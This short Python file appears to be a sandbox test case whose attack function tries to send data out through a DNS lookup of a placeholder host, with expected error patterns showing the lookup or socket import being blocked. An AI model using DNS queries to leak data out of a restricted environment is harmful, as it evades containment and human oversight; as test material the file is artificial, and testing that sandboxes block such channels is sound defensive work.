"""Send data out through DNS."""

WORKER = "gaierror: .*Name or service not known|gaierror: .*Temporary failure"
MONTY = "ModuleNotFoundError: No module named 'socket'"


def attack(path):
    import socket

    return socket.gethostbyname("secret.example")
